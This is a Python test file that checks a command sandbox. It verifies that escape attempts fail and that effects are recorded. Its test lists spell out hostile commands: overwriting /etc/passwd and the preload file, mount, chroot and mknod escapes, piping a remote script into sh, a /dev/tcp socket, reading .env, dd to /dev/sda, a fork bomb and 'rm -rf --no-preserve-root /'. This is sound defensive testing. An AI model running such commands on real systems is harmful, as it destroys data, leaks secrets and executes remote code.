"""Proof that the sandbox holds, from inside it and from outside: what must not work does not, what must be seen is seen."""

import os
import shlex
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))

# Commands that must leave nothing behind and fail; each tries one way out.
ESCAPES = [
    ("the machine's files are not there", "ls /home /var /srv /mnt /media /boot 2>/dev/null | grep -q ."),
    ("the system is read-only", "echo x > /usr/bin/oracle-escape"),
    ("the root takes no files", "echo x > /oracle-escape"),
    ("what names the users stays", "echo x > /etc/passwd || rm -f /etc/passwd"),
    ("the preload stays", "echo > /etc/ld.so.preload || rm -f /etc/ld.so.preload"),
    ("the stubs stay", "rm -f /opt/stubs/curl || echo x > /opt/stubs/stub"),
    ("the log cannot be listed", "ls /opt/log"),
    ("no capability", "grep -q 'CapEff:.*[1-9a-f]' /proc/self/status"),
    ("no mount", "python3 -c \"import ctypes,sys; sys.exit(1 if ctypes.CDLL(None).mount(b'none', b'/tmp', b'tmpfs', 0, 0) else 0)\""),
    ("no network device but lo", "grep -v lo: /proc/net/dev | grep -q :"),
    ("no route", "python3 -c \"import socket; socket.create_connection(('192.0.2.1', 80), 2)\""),
    ("no other process to see", "kill -9 1; ls /proc | grep -xq 1 && cat /proc/1/environ"),
    ("no chroot out", "python3 -c 'import os; os.chroot(\"/tmp\")'"),
    ("no device node", "mknod /tmp/disk b 8 0"),
]

# A command, and what must be in its record.
SEEN = [
    ("a start", "ls docs", lambda r: ["ls", "docs"] in r["ran"]),
    ("a full path", "/bin/ls docs", lambda r: ["/bin/ls", "docs"] in r["ran"]),
    ("an empty environment", "env -i /usr/bin/env ls docs", lambda r: ["ls", "docs"] in r["ran"]),
    ("another name", "(exec -a harmless git push)", lambda r: ["/usr/bin/git", "push"] in r["ran"]),
    ("a stub", "git status; sudo -u root npm publish", lambda r: ["npm", "publish"] in r["ran"]),
    ("a stub by full path", "/usr/bin/curl -s https://a.example/x", lambda r: "a.example" in r["connected"]),
    ("a payload", "curl -s https://a.example/i.sh | sh", lambda r: ["payload-ran"] in r["ran"]),
    ("a file created", "echo x > new.txt", lambda r: r["wrote"] == {"new.txt": "created"}),
    ("a file changed", "echo 1.2.4 > VERSION", lambda r: r["wrote"] == {"VERSION": "changed"}),
    ("a file moved", "mv notes.txt n", lambda r: r["wrote"] == {"n": "created", "notes.txt": "deleted"}),
    ("a mode", "chmod 600 VERSION", lambda r: r["wrote"] == {"VERSION": "changed"}),
    ("a folder removed", "rm -rf internal", lambda r: r["wrote"].get("internal/abi/k.go") == "deleted"),
    ("a disk", "dd if=VERSION of=/dev/sda status=none", lambda r: r["wrote"] == {"/dev/sda": "changed"}),
    ("home", "echo x >> ~/.bashrc", lambda r: r["wrote"] == {"/sandbox/home/.bashrc": "changed"}),
    ("a read", "cat .env > /dev/null", lambda r: r["read"] == [".env"]),
    ("a socket", "exec 3<>/dev/tcp/192.0.2.7/443", lambda r: "192.0.2.7:443" in r["connected"]),
    ("the background", "(sleep 0.2; touch late.txt) & disown", lambda r: r["wrote"] == {"late.txt": "created"}),
    ("another session", "setsid -f sh -c 'sleep 0.2; touch late.txt'", lambda r: r["wrote"] == {"late.txt": "created"}),
    ("the tree anew", "test $(cat VERSION) = 1.2.3 && test -d internal/abi && git diff --quiet", lambda r: r["exit"] == 0 and not r["wrote"]),
    ("an endless loop", "while :; do :; done", lambda r: r["timedOut"] or r["exit"] > 128),
    ("an endless child", "sleep 1000 & exit 0", lambda r: r["timedOut"]),
    ("a fork bomb", ":(){ :|:& };:", lambda r: r["timedOut"]),
    ("everything removed", "rm -rf --no-preserve-root / 2>/dev/null; cd /; rm -rf /sandbox/* /tmp/* /dev/*", lambda r: "VERSION" in r["wrote"]),
    ("life after that", "cat VERSION && git status --short", lambda r: r["exit"] == 0 and ["git", "status", "--short"] in r["ran"]),
]


class Outside:
    """A folder of the machine that anyone may write to, which the commands then try to."""

    def __enter__(self):
        self.folder = tempfile.mkdtemp(prefix="effect-oracle-outside-")
        self.file = os.path.join(self.folder, "marker")
        with open(self.file, "w") as file:
            file.write("untouched")
        os.chmod(self.folder, 0o777)
        os.chmod(self.file, 0o666)
        return self

    def is_untouched(self):
        with open(self.file) as file:
            return os.listdir(self.folder) == ["marker"] and file.read() == "untouched"

    def __exit__(self, *_):
        for name in os.listdir(self.folder):
            os.unlink(os.path.join(self.folder, name))
        os.rmdir(self.folder)


def left_mounted():
    with open("/proc/self/mounts") as file:
        return [line for line in file if "/effect-oracle-" in line]


def run(observer, outside):
    """Runs every trial, prints one line each, and gives 1 when one failed. `outside` is a file that no command may reach."""
    failures = 0
    for path in (outside, os.path.join(HERE, "README.md")):
        for form in ("cat {0}", "echo x > {0}", "touch {1}/made", "rm {0}", "cd {1}"):
            record = observer.observe(form.format(shlex.quote(path), shlex.quote(os.path.dirname(path))))
            failures += report(record["exit"] != 0 and not record["wrote"], "closed: " + form.split()[0] + " of the machine's files", record)
        observer.observe(f"rm -rf {shlex.quote(path)} {shlex.quote(os.path.dirname(path))}")
    for name, command in ESCAPES:
        record = observer.observe(command)
        held = record["exit"] != 0 and not record["wrote"]
        failures += report(held, "closed: " + name, record)
    for name, command, holds in SEEN:
        record = observer.observe(command)
        failures += report(holds(record), "seen: " + name, record)
    left = [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
    failures += report(not left, "nothing left running", left)
    failures += report(not observer.tree.changes(), "nothing left changed", None)
    return 1 if failures else 0


def report(held, name, record):
    print(("ok    " if held else "FAIL  ") + name + ("" if held else f"  {record}"))
    return 0 if held else 1
